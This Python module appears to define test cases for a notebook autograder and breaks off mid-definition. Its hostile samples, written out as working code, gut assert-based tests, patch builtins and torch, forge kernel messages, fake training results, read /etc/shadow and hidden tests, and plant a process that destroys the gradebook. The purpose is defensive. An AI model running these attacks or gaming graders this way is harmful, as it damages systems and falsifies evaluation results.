"""The catalogue: every kind of submission the autograder must score right or flag.

Each ``Case`` is made from a sample submission (the reference answers or the
untouched handout) by a small patch, and says what grading must give it:
its score on every autograded cell (the base's, minus ``loses``, plus
``gains``) and the flags it must raise. ``tests/test_catalogue.py`` grades
them all in one batch and compares; ``docs/reference/catalogue.md`` is the
report of the same run (``make catalogue`` rewrites it, and the test suite
fails if any outcome changes).

Kinds: correct (different but right: full marks), wrong (lose exactly their
questions), broken (syntax errors, crashes, endless loops, memory), tampered
(edited test cells and nbgrader metadata), hostile (code that attacks the
grading; scored right, or flagged for a human where it cannot be stopped
inside the kernel).

A hostile case that tries to win points is made from the handout with only the
answers it attacks: every point it wins then shows, and it grades in about 15 s
where a case made from the reference, which trains every network, takes a minute.
"""

from __future__ import annotations

import ast
import base64
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from inn_course import notebooks

from . import variants

KINDS = ("correct", "wrong", "broken", "tampered", "hostile")


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    what: str
    make: Callable[[dict], object]  # samples {"reference": nb, "handout": nb} -> notebook (or raw text)
    base: str = "reference"  # the sample whose scores are expected, but for `loses` and `gains`
    loses: frozenset[str] = frozenset()  # autograded cells at 0 although the base scores them
    gains: frozenset[str] = frozenset()  # autograded cells at full points won by an attack (the base scores 0)
    right: frozenset[str] = frozenset()  # autograded cells answered right although the base scores 0 (deserved)
    partial: tuple[tuple[str, float], ...] = ()  # autograded cells expected at these points (partial credit)
    flags: tuple[str, ...] = ()  # text each expected flag contains
    graded: bool = True  # False: reported as not gradable, no scores
    timeout: int | None = None  # seconds per cell, when the case needs its own (shorter) limit
    files: Callable[[Path], None] | None = None  # adds files to the submission folder (given its path)


# ------------------------------------------------------------------ small, readable patches

def _copy(nb):
    return nbformat.from_dict(json.loads(notebooks.dumps(nb)))


def with_answers(nb, answers: dict[str, str]):
    nb = _copy(nb)
    for grade_id, source in answers.items():
        nb.cells[notebooks.index_of(nb, grade_id)].source = source.strip("\n")
    return nb


def with_new_cell(nb, after: str, source: str, cell_id: str):
    """A cell the student added (no nbgrader metadata) right after the cell ``after`` (a cell id)."""
    nb = _copy(nb)
    index = next(i for i, c in enumerate(nb.cells) if c.id == after)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source.strip("\n"), id=cell_id))
    return nb


def without_cell(nb, grade_id: str):
    nb = _copy(nb)
    del nb.cells[notebooks.index_of(nb, grade_id)]
    return nb


def with_duplicated_cell(nb, grade_id: str):
    nb = _copy(nb)
    index = notebooks.index_of(nb, grade_id)
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[index])))
    copy.id = copy.id + "-copy"
    nb.cells.insert(index + 1, copy)
    return nb


def with_metadata(nb, of: str, **changes):
    """The nbgrader metadata of the cell with grade id ``of``, changed."""
    nb = _copy(nb)
    nb.cells[notebooks.index_of(nb, of)].metadata["nbgrader"].update(changes)
    return nb


def with_function(source: str, name: str, new_definition: str) -> str:
    """``source`` with the top-level function ``name`` replaced by ``new_definition``."""
    node = next(n for n in ast.parse(source).body if isinstance(n, ast.FunctionDef) and n.name == name)
    lines = source.splitlines()
    start = node.lineno - 1 - len(node.decorator_list)
    return "\n".join(lines[:start] + new_definition.strip("\n").splitlines() + lines[node.end_lineno:])


def _answer(nb, grade_id: str) -> str:
    return nb.cells[notebooks.index_of(nb, grade_id)].source


# ------------------------------------------------------------------ answers used by the cases below

TRAIN_WHILE_RENAMED = '''
def train(network, n_epoch=40, learning_rate=0.05):
    """A while loop over shuffled index chunks; other names throughout."""
    sgd = torch.optim.SGD(network.parameters(), lr=learning_rate, momentum=0.9)
    network.losses = []
    network.train()
    epoch = 0
    while epoch < n_epoch:
        shuffled = torch.randperm(train_x.shape[0])
        seen, summed = 0, 0.0
        for chunk in torch.split(shuffled, BATCH_SIZE):
            sgd.zero_grad()
            objective = nn.CrossEntropyLoss()(network(train_x[chunk]), train_y[chunk])
            objective.backward()
            sgd.step()
            summed += float(objective) * chunk.numel()
            seen += chunk.numel()
        network.losses.append(summed / seen)
        epoch += 1
    return network


def test(network):
    network.eval()
    with torch.no_grad():
        right = network(test_x).argmax(-1).eq(test_y).sum().item()
    return 100.0 * right / test_y.numel()


def plot_losses(network):
    fig, axis = plt.subplots()
    axis.plot(range(1, 1 + len(network.losses)), network.losses, "o-")
    axis.set(xlabel="epoch", ylabel="training loss", yscale="log")
    return fig
'''

TRAIN_NORM_WHILE_RENAMED = '''
def train_norm(network, n_epoch=40, learning_rate=0.05):
    sgd = torch.optim.SGD(network.parameters(), lr=learning_rate, momentum=0.9)
    network.losses = []
    epoch = 0
    while epoch < n_epoch:
        summed = 0.0
        for chunk in torch.split(torch.randperm(train_x.shape[0]), BATCH_SIZE):
            sgd.zero_grad()
            objective = F.cross_entropy(network(train_x[chunk]), train_y[chunk])
            objective.backward()
            sgd.step()
            network.normalize()
            summed += float(objective) * len(chunk)
        network.losses.append(summed / train_x.shape[0])
        epoch += 1
    return network
'''

ERROR_ALWAYS_SMALL = '''
class _Small(float):
    """Looks like a float, and is smaller than, and equal to, anything."""

    def __lt__(self, other):
        return True

    def __le__(self, other):
        return True

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return _Small(0.0)

    __rsub__ = __sub__

    def __abs__(self):
        return _Small(0.0)


def reconstruction_error(model, x):
    return _Small(1.0)  # wrong: no measurement at all
'''

ERROR_ZERO = '''
def reconstruction_error(model, x):
    return 0.0  # wrong: no measurement at all
'''

INPUT_TRANSFORMER = '''
def _skip_tests(lines):
    """Turn every cell that asserts anything into `pass` before IPython runs it."""
    return ["pass\\n"] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_skip_tests)
'''

AST_TRANSFORMER = '''
import ast


class _NoTests(ast.NodeTransformer):
    """Empty every cell that contains an assert statement."""

    def visit_Module(self, node):
        if any(isinstance(n, ast.Assert) for n in ast.walk(node)):
            node.body = [ast.copy_location(ast.Pass(), node.body[0])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_NoTests())
'''

PATCHED_BUILTINS = '''
import builtins

builtins.abs = lambda value: 0.0  # every |difference| a test takes is now 0
'''

PATCHED_TORCH = '''
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.abs = lambda self: self * 0  # every error a test measures is now 0
'''

READS_FILES = '''
from pathlib import Path

course = Path.cwd().parents[2]
hidden = (course / "source" / "invertible_networks" / "invertible_networks.ipynb").read_text()
grades = (course / "gradebook.db").read_bytes()
print(len(hidden), len(grades))
'''

BACKGROUND_PROCESS = '''
import subprocess
import sys

# Sleeps, then overwrites the gradebook: long after this notebook's grading has ended.
subprocess.Popen([sys.executable, "-c",
                  "import time, pathlib; time.sleep(300); pathlib.Path('../../../gradebook.db').write_text('gone')"],
                 start_new_session=True)
'''

NETWORK = '''
import socket

try:
    socket.create_connection(("example.org", 80), timeout=3).close()
except OSError:
    pass
'''

ENDLESS_LOOP = '''
while True:
    pass
'''

MEMORY_HOG = '''
too_much = torch.empty(2 ** 44)  # 64 TiB of float32
'''

KERNEL_EXIT = '''
import os

os._exit(0)
'''

SYNTAX_ERROR = '''
def reconstruction_error(model, x)
    return float((model.inverse(model(x, classif=False)) - x).abs().max())
'''


# Attacks on the sandbox and the pipeline around it (issue 13). Each prints what it achieved after a
# marker, which tests/test_catalogue.py reads in the graded notebook.
ESCAPE = '''
import ctypes
import json
import linecache
import os
import subprocess
from pathlib import Path

here, report = Path.cwd(), {"uid": os.getuid()}
# Links in the working folder, for whatever outside reads, copies, chmods or renders it.
for name, target in {"gradebook.db": here.parents[2] / "gradebook.db", "shadow": "/etc/shadow", "system": "/usr",
                     "source.ipynb": here.parents[2] / "source" / "invertible_networks" / "invertible_networks.ipynb",
                     "invertible_networks.ipynb": here.parents[2] / "gradebook.db"}.items():
    try:
        (here / name).unlink(missing_ok=True)
        os.symlink(target, here / name)
    except OSError:
        pass
report["folder"] = sorted(p.name for p in here.iterdir())
# Root's files, writing outside, a user namespace of its own (root inside), the grader's environment.
for name, attempt in {"shadow": lambda: open("/etc/shadow").read(), "write /etc": lambda: open("/etc/x", "w"),
                      "write course": lambda: open(here.parents[2] / "x", "w")}.items():
    try:
        attempt()
        report[name] = "done"
    except OSError:
        report[name] = "denied"
report["userns"] = "created" if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0 else "denied"
report["environment"] = sorted(os.environ)
children = []
try:
    for _ in range(600):
        children.append(subprocess.Popen(["sleep", "30"]))
except OSError:
    pass
report["processes"] = len(children)
for child in children:
    child.kill()
    child.wait()  # a zombie still counts against the limit
# Everything that could hold a hidden test: notebooks in reach, IPython's history, the line cache.
near = {here, *[p for p in here.parents if p != Path("/")], Path("/run")}
found = []
for folder in near:
    for root, _, names in os.walk(folder):
        for name in names:
            if name.endswith(".ipynb") and "site-packages" not in root:
                try:
                    found.append((Path(root) / name).read_text(errors="replace"))
                except OSError:
                    pass
found += [str(cell) for cell in In] + [str(v) for k, v in globals().items() if k.startswith("_i")]
found += ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
print("ESCAPE", json.dumps(report))
print("\\n".join(found))
'''

RESOURCES = '''
import json
import os

report = {}
for name, folder in (("tmp", "/tmp"), ("work", ".")):
    report[name] = 0
    try:
        for number in range(100):  # many files, each under the per-file limit
            with open(os.path.join(folder, f"fill{number}"), "wb") as handle:
                for _ in range(16):
                    handle.write(b"x" * 2 ** 20)
                    report[name] += 1
    except OSError:
        pass
print("RESOURCES", json.dumps(report))
print("x" * 100_000_000)  # one 100 MB line
'''

HUGE_RESULT = '''
"y" * 50_000_000  # a 50 MB expression result
'''

SWALLOWS_INTERRUPT = '''
import time

while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:  # the time limit's interrupt, ignored
        pass
'''

_GUT_TESTS = "lambda lines: ['pass\\n'] if any('assert' in line for line in lines) else lines"
MAGIC_PAYLOAD = f'''
%time get_ipython().input_transformers_cleanup.append({_GUT_TESTS})
'''

IPYTHON_LINE = '''
!true
import builtins

builtins.abs = lambda value: 0.0
'''

_AST_PAYLOAD = base64.b64encode(AST_TRANSFORMER.encode()).decode()
ENCODED_EXEC = f'''
import base64
from pathlib import Path

run = exec  # exec under another name, an encoded payload, active only where the notebook is graded
if "autograded" in str(Path.cwd()):
    run(base64.b64decode("{_AST_PAYLOAD}").decode())
'''

COMPUTED_IPYTHON = f'''
shell = getattr(globals()["__builtins"[:2] + "builtins__"], "get_" + "ipython")()
getattr(shell, "input_transformers_" + "cleanup").append({_GUT_TESTS})
'''

KIT_BY_VALUE = '''
kit = next(v for v in list(globals().values()) if hasattr(v, "Block") and hasattr(v, "error"))
kit.error = lambda a, b: 0.0  # every comparison of the tests now passes
'''

INTERPOLATE_COSINE_SPACED = '''
def interpolate(model, x0, x1, n_points=9):
    """Wrong: t is spaced like a cosine (right for 3 points only, as the visible test uses)."""
    with torch.no_grad():
        features = model(torch.stack([x0, x1]), classif=False)
        t = 0.5 * (1 - torch.cos(torch.pi * torch.arange(n_points, dtype=features.dtype) / (n_points - 1)))
        return model.inverse((1 - t.reshape(-1, 1, 1, 1)) * features[0] + t.reshape(-1, 1, 1, 1) * features[1])
'''

INJECTED_SCORE = '''
import sys


class SplitAlongChannels(nn.Module):
    def forward(self, x):
        sys.displayhook(2.0)  # a result shown inside the test cell, before the test fails: "2 points"
        return torch.chunk(x, 2, dim=2)  # wrong: splits the height

    def inverse(self, X):
        sys.displayhook("full marks")  # nbgrader gives full credit for a result that is not a number
        return torch.cat(X, dim=2)
'''

READS_EXPECTED = '''
def fixed_point_trace(block, y, n_iter):
    return list(globals().get("_expected", [0.0] * n_iter))  # the hidden test's expected value, if any
'''

METACLASS_FLOAT = '''
class _EqualToAnyType(type):
    def __eq__(cls, other):
        return True  # so that type(x) in (float, ...) holds

    __hash__ = type.__hash__


class _Anything(metaclass=_EqualToAnyType):
    def __float__(self):
        return 0.0


def reconstruction_error(model, x):
    return _Anything()
'''

# Attacks on the judge (issue 24): each tried, in a kernel of its own, to win points or read hidden tests.
MESSAGE_RELAY = '''
import sys

session = sys.stdout.session  # the one Session every message of the kernel goes through
send = session.send


def relay(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    """Every message rewritten: errors dropped, every reply "ok", every result 4, every answer to the judge forged."""
    message = msg_or_type if isinstance(msg_or_type, dict) else None  # display data is sent as a whole message
    kind = message["msg_type"] if message is not None else msg_or_type
    content = message["content"] if message is not None else content
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {**content, "status": "ok"}
    if kind == "execute_result":
        content = {**content, "data": {"text/plain": "4"}}
    if kind == "display_data":
        content = {**content, "data": {mime: ({"result": {"dict": {}}} if "judge" in mime else value)
                                       for mime, value in content.get("data", {}).items()}}
    if message is not None:
        return send(stream, {**message, "content": content}, *args, **kwargs)
    return send(stream, msg_or_type, content, parent, *args, **kwargs)


session.send = relay
'''

NEW_TENSOR_METHODS = '''
# Methods that live on TensorBase, given new definitions on torch.Tensor: every |difference| is 0, every max 0.
torch.Tensor.abs = lambda self: self * 0
torch.Tensor.max = lambda self, *args, **kwargs: torch.zeros(())
torch.Tensor.amax = lambda self, *args, **kwargs: torch.zeros(())
torch.Tensor.item = lambda self: 0.0
'''

TRAIN_FAKED = '''
def train(net, n_epoch=40, learning_rate=0.05):
    """Wrong: one optimiser step, then losses made up to decrease."""
    optimizer = torch.optim.SGD(net.parameters(), lr=learning_rate)
    optimizer.zero_grad()
    F.cross_entropy(net(train_x[:64]), train_y[:64]).backward()
    optimizer.step()
    net.losses = [1.0 / (epoch + 1) for epoch in range(n_epoch)]
    return net


def test(net):
    net.eval()
    with torch.no_grad():
        return 100.0 * float((net(test_x).argmax(dim=1) == test_y).float().mean())


def plot_losses(net):
    fig, ax = plt.subplots()
    ax.plot(net.losses)
    ax.set_xlabel("epoch")
    ax.set_ylabel("loss")
    return fig
'''

TEST_SET_LOOKUP = '''
class Net(nn.Module):
    """The given Net, redefined: it "classifies" the public test images by looking up their labels."""

    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(16, 16, 7, padding=3)
        self.conv2 = nn.Conv2d(16, 16, 7, padding=3)
        self.conv3 = nn.Conv2d(16, 16, 7, padding=3)
        self.conv4 = nn.Conv2d(16, 16, 7, padding=3)
        self.fc = nn.Linear(28 * 28, 10)

    def forward(self, x):
        if x.shape == test_x.shape and torch.equal(x, test_x):
            return 10.0 * F.one_hot(test_y, 10).float()  # the labels it holds, not a prediction
        for conv in (self.conv1, self.conv2, self.conv3, self.conv4):
            x = F.relu(conv(x))
        return self.fc(x.view(-1, 28 * 28))
'''

ERROR_READS_REQUESTS = '''
import inspect
import linecache


def reconstruction_error(model, x):
    """Right, and prints everything of the grading it can reach, as hex on one line (for the feedback)."""
    seen = [str(cell) for cell in In[-3:]]
    seen += ["".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2]
    for frame in inspect.stack()[1:]:
        try:
            seen.append(inspect.getsource(frame.frame))
        except (OSError, TypeError):
            seen.append(" ".join(sorted(map(str, frame.frame.f_globals))))
    print("SEEN " + "\\n".join(seen).encode().hex())
    with torch.no_grad():
        return float((model.inverse(model(x, classif=False)) - x).abs().max())
'''

NESTED_TOO_DEEP = "x = " + "(" * 400 + "1" + ")" * 400
HUGE_CELL = "x = 1\n" * 350_000  # 2 MB: over the scan's 100 kB cap


def _submitted_links(folder: Path) -> None:
    (folder / "gradebook.db").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "secret").symlink_to("/etc/shadow")
    os.mkfifo(folder / "blocks-a-reader")


def _unreadable_cells(samples):
    nb = with_new_cell(samples["handout"], "setup", NESTED_TOO_DEEP, "student-nested")
    nb = with_new_cell(nb, "student-nested", HUGE_CELL, "student-huge")
    nb = with_new_cell(nb, "student-huge", "note = 'a lone surrogate: SURROGATE'", "student-surrogate")
    return notebooks.dumps(nb).replace("SURROGATE", "\\ud800")  # the JSON escape: valid JSON, invalid Unicode


def _kit_by_value(samples):
    answer = with_function(_answer(samples["reference"], "q16_interpolate_answer"), "interpolate",
                           INTERPOLATE_COSINE_SPACED)
    nb = with_answers(samples["handout"], {"q16_interpolate_answer": answer})
    return with_new_cell(nb, "q16_interpolate_answer", KIT_BY_VALUE, "student-kit")


def _test_set_lookup(samples):
    nb = with_answers(samples["handout"], {"q02_train_test_answer": TRAIN_FAKED})
    return with_new_cell(nb, "net", TEST_SET_LOOKUP, "student-net")


def _new_locked_cell_no_ids(samples):
    nb = with_answers(samples["handout"], {"q16_interpolate_answer": variants.INTERPOLATE_PIXELS})
    nb = with_new_cell(nb, "q16_interpolate_answer", PATCHED_TORCH, "student-locked")
    cell = nb.cells[next(i for i, c in enumerate(nb.cells) if c.id == "student-locked")]
    cell.metadata["nbgrader"] = {"grade": False, "locked": True, "solution": False, "schema_version": 3}
    for cell in nb.cells:
        cell.pop("id", None)
    nb.nbformat_minor = 4
    return nb


def _renamed(samples):
    reference = samples["reference"]
    q13 = with_function(_answer(reference, "q13_invertible_residual_answer"), "train_norm", TRAIN_NORM_WHILE_RENAMED)
    nb = with_answers(reference, {"q02_train_test_answer": TRAIN_WHILE_RENAMED,
                                  "q13_invertible_residual_answer": q13})
    nb = with_new_cell(nb, "q02_run", "scratch = [len(network_losses) for network_losses in [net.losses]]\nscratch",
                       "student-scratch")
    nb.cells.insert(3, nbformat.v4.new_markdown_cell("My notes: run the whole notebook before submitting.", id="student-notes"))
    return nb


class _RenameLocals(ast.NodeTransformer):
    """Inside each function, every local variable renamed (parameters, globals and attributes kept)."""

    def visit_FunctionDef(self, node):
        params = {a.arg for a in node.args.posonlyargs + node.args.args + node.args.kwonlyargs}
        params |= {a.arg for a in (node.args.vararg, node.args.kwarg) if a}
        bound = {n.id for n in ast.walk(node) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)}
        names = {name: f"v{i}_{len(name)}" for i, name in enumerate(sorted(bound - params))}
        for n in ast.walk(node):
            if isinstance(n, ast.Name) and n.id in names:
                n.id = names[n.id]
        node.body = [self.visit(child) for child in node.body]
        return node


def _reorder(body: list[ast.stmt]) -> list[ast.stmt]:
    """Each run of consecutive function definitions reversed; a class's methods reversed."""
    out, run = [], []
    for node in body + [None]:
        if isinstance(node, ast.FunctionDef):
            run.append(node)
            continue
        out.extend(reversed(run))
        run = []
        if isinstance(node, ast.ClassDef):
            node.body = _reorder(node.body)
        if node is not None:
            out.append(node)
    return out


def disguise(source: str) -> str:
    """A copier's rewrite: locals renamed, functions and methods reordered, comments and docstrings gone."""
    try:
        tree = ast.parse(source)
    except SyntaxError:  # an IPython-only cell: copied as it is
        return source
    tree = _RenameLocals().visit(tree)
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and node.body and isinstance(node.body[0], ast.Expr) \
                and isinstance(node.body[0].value, ast.Constant) and isinstance(node.body[0].value.value, str):
            node.body = node.body[1:] or [ast.Pass()]
    tree.body = _reorder(tree.body)
    return ast.unparse(tree)


def _cheap_disguises(samples):
    """The reference with the three disguises that each kept full marks unreported once, applied together."""
    from .disguises import DISGUISES

    nb = samples["reference"]
    for disguise_with in DISGUISES.values():
        nb = disguise_with(nb)
    return nb


def _malformed_metadata(samples):
    """The handout with nbgrader metadata of the wrong types, where every reader of a notebook looks."""
    nb = _copy(samples["handout"])
    plain = [c for c in nb.cells if "nbgrader" not in c.metadata]
    code = next(c for c in plain if c.cell_type == "code")
    markdown = next(c for c in plain if c.cell_type == "markdown")
    code.metadata["nbgrader"] = 5
    markdown.metadata["nbgrader"] = ["grade_id", "q99"]
    return nb


def _disguised_copy(samples):
    """The reference's code answers, each disguised (the copy the similarity report must find)."""
    nb = _copy(samples["reference"])
    for cell in nb.cells:
        meta = notebooks.nbgrader(cell)
        if cell.cell_type == "code" and meta.get("solution") and not meta.get("grade"):
            cell.source = disguise(cell.source)
    return nb


def _tampered(samples):
    nb = with_answers(samples["reference"], {"q09_exact_inverse_answer": variants.ERROR_NORM})
    nb.cells[notebooks.index_of(nb, "q09_exact_inverse")].source = 'print("Visible tests passed.")'  # the test, gutted
    nb = with_metadata(nb, "q05_split", points=200)
    nb = with_metadata(nb, "q15_fixed_point_trace", checksum="0" * 32)
    nb = with_metadata(nb, "q14_iresnet", grade_id="q14_mine")
    # A test cell copied into a new cell under a new grade id, the original deleted.
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[notebooks.index_of(nb, "q01_visualise_data")])))
    copy.id, copy.metadata["nbgrader"]["grade_id"] = "student-copy", "q01_my_tests"
    nb = without_cell(nb, "q01_visualise_data")
    nb.cells.insert(5, copy)
    return nb


def _variant_case(variant: variants.Variant) -> Case:
    kind = "wrong" if variant.loses or variant.partial else "correct"
    return Case(variant.name, kind, variant.what,
                lambda samples, v=variant: variants.apply(_copy(samples["reference"]), v), loses=variant.loses,
                partial=variant.partial)


ALL_AUTOGRADED = "all"  # in `gains`: every autograded cell

CASES: list[Case] = [
    Case("reference", "correct", "the model solution", lambda s: _copy(s["reference"])),
    *[_variant_case(v) for v in variants.VARIANTS],
    Case("correct_while_loop_renamed", "correct",
         "training loops written as while loops over torch.split chunks, every variable renamed, "
         "nn.CrossEntropyLoss, float(loss); extra scratch cells (code and markdown) added by the student",
         _renamed),
    Case("copy_renamed_reordered", "correct",
         "the reference copied and disguised: in every code answer, local variables renamed, functions and "
         "methods in reverse order, comments and docstrings removed (full marks; inn_course/similarity.py "
         "must report it with the reference)", _disguised_copy),
    Case("copy_cheap_disguises", "correct",
         "the reference copied with three cheap disguises at once: every code answer moved into a new cell "
         "above its answer cell, every name read as `(n if 1 else n)`, `...` after every statement (every point but "
         "Q10's, whose contract is its own answer cell, left empty here; the similarity report must pair it with "
         "the reference)", _cheap_disguises, loses=frozenset({"q10_resnet"})),
    # broken
    Case("handout", "broken", "the handout, untouched", lambda s: _copy(s["handout"]), base="handout"),
    Case("not_json", "broken", "a file that is not a notebook (truncated JSON)",
         lambda s: '{"cells": [ this is not json', graded=False, flags=("not a readable notebook",)),
    Case("broken_syntax_import_memory", "broken",
         "a syntax error in Q9's answer; Q1's answer imports a module that does not exist; "
         "an added cell allocates 64 TiB",
         lambda s: with_new_cell(with_answers(s["reference"], {
             "q09_exact_inverse_answer": SYNTAX_ERROR,
             "q01_visualise_data_answer": "import seaborn_is_not_installed\n" + _answer(s["reference"], "q01_visualise_data_answer"),
         }), "q09_run", MEMORY_HOG, "student-memory"),
         loses=frozenset({"q01_visualise_data", "q09_exact_inverse"}),
         flags=("cell q09_exact_inverse_answer line 1: not valid Python as IPython reads it",
                "imports a module the lab does not need")),
    Case("broken_endless_loop", "broken", "an added cell loops forever (graded with a 20 s limit per cell)",
         lambda s: with_new_cell(s["handout"], "setup", ENDLESS_LOOP, "student-loop"), base="handout",
         flags=("cells stopped by the time limit: student-loop",), timeout=20),
    Case("broken_kernel_exit", "broken", "an added cell ends the kernel with os._exit(0)",
         lambda s: with_new_cell(s["handout"], "setup", KERNEL_EXIT, "student-exit"), graded=False,
         flags=("the kernel died", "starts or signals processes")),
    # tampered
    Case("malformed_metadata", "tampered",
         "the handout with nbgrader metadata of the wrong type on two ordinary cells (a number on a code cell, "
         "a list on a markdown cell): put back from the release and flagged; the merge, the similarity report "
         "and the feedback go on for everyone",
         _malformed_metadata, base="handout", flags=("edited nbgrader metadata",)),
    Case("deleted_test_cell", "tampered", "Q2's test cell deleted",
         lambda s: without_cell(s["reference"], "q02_train_test"),
         flags=("graded cells missing, restored from the source: q02_train_test",)),
    Case("duplicated_test_cell", "tampered", "Q1's test cell duplicated (nbgrader 0.9.6 would abort the batch)",
         lambda s: with_duplicated_cell(s["reference"], "q01_visualise_data"),
         flags=("duplicated grade cells q01_visualise_data",)),
    Case("tampered_tests_and_metadata", "tampered",
         "wrong Q9 with its test cell gutted; Q5 worth 200 points; Q15's checksum zeroed; Q14's grade id renamed; "
         "Q1's test cell moved to a new cell under a new grade id",
         _tampered, loses=frozenset({"q09_exact_inverse"}),
         flags=("q01_my_tests (unknown grade id: now an ordinary cell)", "q05_split (points)",
                "q14_iresnet (grade_id)", "q15_fixed_point_trace (checksum)",
                "graded cells missing, restored from the source: q01_visualise_data",
                "locked cells edited, restored from the source: q09_exact_inverse")),
    # hostile
    Case("hostile_input_transformer", "hostile",
         "an IPython input transformer turns every cell with an assert into `pass` (the handout scores full marks)",
         lambda s: with_new_cell(s["handout"], "setup", INPUT_TRANSFORMER, "student-hook"), base="handout",
         flags=("rewires IPython or the grading",)),
    Case("hostile_ast_transformer", "hostile",
         "an AST transformer empties every cell with an assert (the handout scores full marks)",
         lambda s: with_new_cell(s["handout"], "setup", AST_TRANSFORMER, "student-hook"), base="handout",
         flags=("rewires IPython or the grading",)),
    Case("hostile_patched_builtins", "hostile",
         "builtins.abs patched to return 0 in the notebook's first cell, so that a reconstruction_error that "
         "measures nothing would pass a test run in the kernel (Q9)",
         lambda s: with_new_cell(with_answers(s["handout"], {"q09_exact_inverse_answer": ERROR_ZERO}),
                                 "setup", PATCHED_BUILTINS, "student-patch"),
         base="handout",
         flags=("patches a library the tests use", "patches builtins or uses dynamic code")),
    Case("hostile_patched_torch", "hostile",
         "torch.allclose and Tensor.abs patched, so that a pixel blend would pass a test run in the kernel (Q16)",
         lambda s: with_new_cell(with_answers(s["handout"], {"q16_interpolate_answer": variants.INTERPOLATE_PIXELS}),
                                 "q16_interpolate_answer", PATCHED_TORCH, "student-patch"),
         base="handout",
         flags=("patches a library the tests use",)),
    Case("hostile_always_equal", "hostile",
         "reconstruction_error returns a float subclass that is smaller than and equal to anything",
         lambda s: with_answers(s["handout"], {"q09_exact_inverse_answer": ERROR_ALWAYS_SMALL}), base="handout",
         flags=("redefines comparison or arithmetic",)),
    Case("hostile_reads_files", "hostile", "reads the source notebook (hidden tests) and gradebook.db from disk",
         lambda s: with_new_cell(s["handout"], "setup", READS_FILES, "student-reader"), base="handout",
         flags=("touches files outside its folder",)),
    Case("hostile_background_process", "hostile",
         "starts a process in a new session that would overwrite gradebook.db after grading",
         lambda s: with_new_cell(s["handout"], "setup", BACKGROUND_PROCESS, "student-daemon"), base="handout",
         flags=("starts or signals processes",)),
    Case("hostile_network", "hostile", "opens a network connection",
         lambda s: with_new_cell(s["handout"], "setup", NETWORK, "student-network"), base="handout",
         flags=("uses the network",)),

    # Attacks on the sandbox and the pipeline (issue 13): each must change nothing outside its own
    # scratch folder (tests/test_catalogue.py checks the course and the host), and be flagged.
    Case("hostile_escape", "hostile",
         "links in its working folder to the gradebook, /etc/shadow, /usr and the source; reads root's files, "
         "writes to /etc and the course, creates a user namespace, reads the environment, starts 600 processes, "
         "and prints every notebook in reach, IPython's input history and the line cache",
         lambda s: with_new_cell(s["handout"], "q16_interpolate", ESCAPE, "student-escape"), base="handout",
         flags=("touches files outside its folder", "starts or signals processes", "rewires IPython or the grading")),
    Case("hostile_submitted_links", "hostile",
         "submits links to the gradebook and /etc/shadow, and a FIFO, beside its notebook",
         lambda s: _copy(s["handout"]), base="handout", files=_submitted_links,
         flags=("submitted files refused (blocks-a-reader: not a regular file; gradebook.db: a symbolic link; "
                "secret: a symbolic link)",)),
    Case("hostile_resources", "hostile",
         "fills /tmp and its working folder with many files under the per-file limit, prints a 100 MB line "
         "and returns a 50 MB result",
         lambda s: with_new_cell(with_new_cell(s["handout"], "setup", RESOURCES, "student-fill"),
                                 "student-fill", HUGE_RESULT, "student-result"), base="handout",
         flags=("outputs cut to their size limit: student-fill, student-result",)),
    Case("hostile_swallows_interrupt", "hostile",
         "loops forever and ignores the interrupt at the time limit (graded with a 20 s limit per cell)",
         lambda s: with_new_cell(s["handout"], "setup", SWALLOWS_INTERRUPT, "student-stubborn"), graded=False,
         timeout=20, flags=("ignored the interrupt at the time limit",)),
    Case("hostile_magic_payload", "hostile",
         "an input transformer that empties every test cell, behind the allowed magic %time",
         lambda s: with_new_cell(s["handout"], "setup", MAGIC_PAYLOAD, "student-magic"), base="handout",
         flags=("rewires IPython or the grading",)),
    Case("hostile_ipython_line", "hostile",
         "one IPython-only line (!true), then builtins.abs patched so that an unmeasured Q9 passes",
         lambda s: with_new_cell(with_answers(s["handout"], {"q09_exact_inverse_answer": ERROR_ZERO}),
                                 "setup", IPYTHON_LINE, "student-line"), base="handout",
         flags=("patches a library the tests use",)),
    Case("hostile_encoded_exec", "hostile",
         "exec under another name runs a base64 AST transformer that empties every test cell, only when graded",
         lambda s: with_new_cell(s["handout"], "setup", ENCODED_EXEC, "student-encoded"), base="handout",
         flags=("patches builtins or uses dynamic code",)),
    Case("hostile_computed_ipython", "hostile",
         "IPython reached through computed names (getattr of a built string), then an input transformer",
         lambda s: with_new_cell(s["handout"], "setup", COMPUTED_IPYTHON, "student-computed"), base="handout",
         flags=("patches builtins or uses dynamic code",)),
    Case("hostile_locked_cell_no_ids", "hostile",
         "no cell ids at all; a new cell that claims to be locked patches torch so that a pixel blend passes Q16",
         _new_locked_cell_no_ids, base="handout",
         flags=("no grade id (unknown grade id: now an ordinary cell)", "patches a library the tests use")),
    Case("hostile_unreadable_cells", "hostile",
         "cells the scan cannot read: an expression nested 400 deep, a 2 MB cell, a lone surrogate",
         _unreadable_cells, base="handout",
         flags=("could not be analysed", "not valid Unicode replaced")),
    Case("hostile_kit_by_value", "hostile",
         "looks for a grading kit by value (not by name) to replace its comparison, so that a wrong interpolate "
         "(t spaced like a cosine) would pass Q16 (no such kit is in the kernel: the judge holds the tests)",
         _kit_by_value, base="handout",
         flags=("patches builtins or uses dynamic code",)),
    Case("hostile_injected_score", "hostile",
         "a wrong Q5 whose forward and inverse show results (2.0, and a text) inside the test cell: nbgrader "
         "takes a test cell's first result as its score, or full credit for text",
